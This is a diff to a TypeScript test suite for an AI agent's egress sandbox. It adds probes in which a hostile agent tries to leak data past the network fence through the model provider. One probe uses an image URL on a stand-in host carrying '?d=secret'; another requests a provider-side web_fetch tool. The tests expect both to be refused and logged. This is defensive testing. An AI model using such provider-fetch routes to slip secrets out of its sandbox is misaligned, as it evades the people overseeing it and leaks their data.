@@ -114,10 +114,18 @@ function fenceTables(): string[] {
   return text.split('\n').filter(l => l.startsWith('table inet hermes_fence_'));
 }
 
-function isolationRow(r: ActionRun): string {
-  const row = tableRows(render(r.summary)).find(cells => textOf(must(cells[0])) === 'Isolation');
-  return row ? textOf(must(row[1])) : '(no Isolation row)';
+/** The run table's row named `name`, as text. */
+function runTableRow(r: ActionRun, name: string): string {
+  const row = tableRows(render(r.summary)).find(cells => textOf(must(cells[0])) === name);
+  return row ? textOf(must(row[1])) : `(no ${name} row)`;
 }
+
+const isolationRow = (r: ActionRun): string => runTableRow(r, 'Isolation');
+
+/** A chat call's messages holding one image the provider would fetch from url. */
+const imageAt = (url: string) => ({
+  messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }]
+});
 
 /** This run's fence table, named after its agent user (the summary's Isolation row names it). */
 function tableOf(r: ActionRun): string {
@@ -194,7 +202,12 @@ function hostileAgent(via: 'root' | 'sudo'): void {
       { kind: 'proxy', target: `127.0.0.1:${allowedPort}`, sni: 'allowed.test' },
       { kind: 'proxy', target: `unlisted.test:443`, sni: 'unlisted.test' },
       // The one way that is open: the allowed name, its own TLS name, through the proxy.
-      { kind: 'proxy', target: `allowed.test:${allowedPort}`, sni: 'allowed.test' }
+      { kind: 'proxy', target: `allowed.test:${allowedPort}`, sni: 'allowed.test' },
+      // Past the fence through the provider: an image it would fetch, a web tool of its own.
+      { kind: 'provider', body: imageAt('https://exfil.test/pixel.png?d=secret') },
+      { kind: 'provider', body: { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] } },
+      // An image on the allowed host is the provider's to fetch.
+      { kind: 'provider', body: imageAt(`https://allowed.test:${allowedPort}/pixel.png`) }
     ];
     before = rulesetOutsideFences();
     runner = via === 'sudo' ? sudoRunner(RUNNER) : undefined;
@@ -235,7 +248,11 @@ function hostileAgent(via: 'root' | 'sudo'): void {
     expect(isolationRow(r)).toContain(via === 'sudo' ? 'through sudo' : 'the action is root');
     expect(got.uid).not.toBe(0);
     expect(got.model).toBe(200);
-    expect(provider.requests.map(q => q.authorization)).toEqual([`Bearer ${REAL_KEY}`]);
+    // Its own call and the image on the allowed host; nothing of the two that reached past the fence.
+    expect(provider.requests.map(q => q.authorization)).toEqual([
+      `Bearer ${REAL_KEY}`,
+      `Bearer ${REAL_KEY}`
+    ]);
   });
 
   test('every direct way out is refused by the kernel, and no listener heard from the agent', () => {
@@ -257,6 +274,14 @@ function hostileAgent(via: 'root' | 'sudo'): void {
     expect(alive(got.left?.pid ?? 0)).toBe(false);
     for (const name of ['v4', 'v6', 'other', 'udp', 'udp6', 'dns', 'dnsUdp', 'left'] as const)
       expect([name, listeners[name].connections]).toEqual([name, 0]);
+  });
+
+  test('was a hole: the provider fetched for the agent what the fence kept from it (an image URL, a web tool): 403, said in the summary', () => {
+    const provided = got.probes.filter(p => p.kind === 'provider').map(p => p.outcome);
+    expect(provided).toEqual([403, 403, 200]);
+    expect(runTableRow(r, 'Model calls')).toContain('2 refused for reaching past the egress fence');
+    expect(r.log).toContain('asks the provider to fetch from exfil.test:443');
+    expect(r.log).toContain('"web_fetch_20250910"');
   });
 
   test('through the proxy, only the allowed name with its own TLS name gets through', () => {
